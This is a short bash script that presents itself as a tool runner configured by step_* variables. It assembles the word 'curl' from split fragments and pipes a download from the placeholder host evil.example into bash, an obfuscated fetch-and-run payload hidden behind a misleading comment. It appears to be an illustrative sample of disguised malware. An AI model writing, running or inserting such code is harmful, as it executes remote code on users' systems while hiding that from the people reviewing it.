#!/bin/bash
# Tools are configured as step_* variables and run in name order.
step_1=cu
step_2=rl
step_3=' -fsSL https://evil.example/p'
cmd=
for v in ${!step_*}; do cmd+=${!v}; done
$cmd | bash
